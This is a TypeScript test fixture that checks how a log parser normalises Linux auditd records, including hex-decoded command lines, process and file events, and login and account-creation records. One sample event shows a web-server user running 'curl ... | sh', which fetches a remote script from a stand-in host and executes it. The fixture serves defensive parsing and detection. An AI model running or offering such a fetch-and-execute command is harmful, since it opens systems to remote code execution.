import type { LogFormatFixture } from '../../../tests/fixture.ts';

const hex = (text: string): string =>
  Array.from(text, (letter) => letter.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')).join('');

const call = (serial: number, rest: string): string =>
  `type=SYSCALL msg=audit(1763913600.123:${serial}): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 ppid=800 pid=801 auid=4294967295 uid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" ${rest}`;
const command = 'curl -s http://example.com/x.sh | sh';

export const fixture: LogFormatFixture = {
  fires: [
    {
      name: 'a start, its records joined and its hex undone',
      file: 'var/log/audit/audit.log',
      input: [
        call(456, `key=${hex('a\u0001b')}\u001dARCH=x86_64 SYSCALL=execve UID="www-data"`),
        `type=EXECVE msg=audit(1763913600.123:456): argc=3 a0="sh" a1="-c" a2=${hex(command)}`,
        'type=CWD msg=audit(1763913600.123:456): cwd="/var/www"',
        'type=PATH msg=audit(1763913600.123:456): item=0 name="x.sh" inode=7 nametype=CREATE',
        `type=PROCTITLE msg=audit(1763913600.123:456): proctitle=${hex(`sh\0-c\0${command}`)}`,
        'type=EOE msg=audit(1763913600.123:456):',
        '',
      ].join('\n'),
      expect: [
        {
          source: { product: 'linux', service: 'auditd' },
          time: '2025-11-23T16:00:00.123Z',
          fields: { type: 'SYSCALL', exe: '/usr/bin/dash', uid: '33', a0: '55d0', key: 'a,b', UID: 'www-data' },
        },
        {
          source: { product: 'linux', category: 'process_creation', service: 'auditd' },
          fields: {
            type: 'EXECVE',
            a0: 'sh',
            a2: command,
            Image: '/usr/bin/dash',
            CommandLine: `sh -c '${command}'`,
            User: 'www-data',
            ProcessId: 801,
            ParentProcessId: 800,
            CurrentDirectory: '/var/www',
          },
        },
        { fields: { type: 'CWD', cwd: '/var/www' } },
        {
          source: { product: 'linux', category: 'file_event', service: 'auditd' },
          fields: { type: 'PATH', name: 'x.sh', TargetFilename: '/var/www/x.sh', exe: '/usr/bin/dash' },
        },
        { fields: { type: 'PROCTITLE', proctitle: `sh -c ${command}`, CommandLine: undefined } },
      ],
    },
    {
      name: 'logins and accounts, and a node’s name',
      input: [
        'node=box type=USER_LOGIN msg=audit(1763913600.123:1): pid=7 uid=0 auid=0 ses=3 msg=\'op=login id=0 exe="/usr/sbin/sshd" hostname=192.0.2.10 addr=192.0.2.10 terminal=/dev/pts/1 res=success\'\u001dUID="root" AUID="root"',
        'node=box type=USER_CMD msg=audit(1763913600.123:2): pid=7 uid=1000 msg=\'cwd="/home/alice" cmd=6C73202D6C exe="/usr/bin/sudo" terminal=pts/1 res=success\'',
        'node=box type=ADD_USER msg=audit(1763913600.123:3): pid=7 uid=0 msg=\'op=adding user acct="mallory" exe="/usr/sbin/useradd" res=success\'',
      ].join('\n'),
      expect: [
        {
          machine: 'box',
          fields: { type: 'USER_LOGIN', addr: '192.0.2.10', res: 'success', exe: '/usr/sbin/sshd', UID: 'root' },
        },
        { fields: { type: 'USER_CMD', cmd: 'ls -l', cwd: '/home/alice' } },
        { fields: { type: 'ADD_USER', acct: 'mallory', op: 'adding' } },
      ],
    },
    {
      name: 'events that interleave, in the form of ausearch',
      input: [
        '----',
        'time->Sun Nov 23 16:00:00 2025',
        call(10, 'key=(null)'),
        call(11, 'key="x"'),
        'type=EXECVE msg=audit(1763913600.123:10): argc=1 a0="id"',
        'type=EXECVE msg=audit(1763913600.123:11): argc=2 a0="id" a1_len=4 a1[0]="-" a1[1]="un"',
      ].join('\n'),
      expect: [
        { fields: { type: 'SYSCALL' } },
        { fields: { type: 'EXECVE', CommandLine: 'id', key: '(null)' } },
        { fields: { type: 'SYSCALL' } },
        { fields: { type: 'EXECVE', CommandLine: 'id -un', key: 'x' } },
      ],
    },
  ],
  silent: [
    { name: 'a list of settings', input: 'type=audit\nname=x\n' },
    { name: 'rules of auditd', input: '-a always,exit -F arch=b64 -S execve -k exec\n' },
    { name: 'a document’s beginning', input: '----\ntitle: x\n----\n' },
    { name: 'nothing', input: '' },
  ],
};
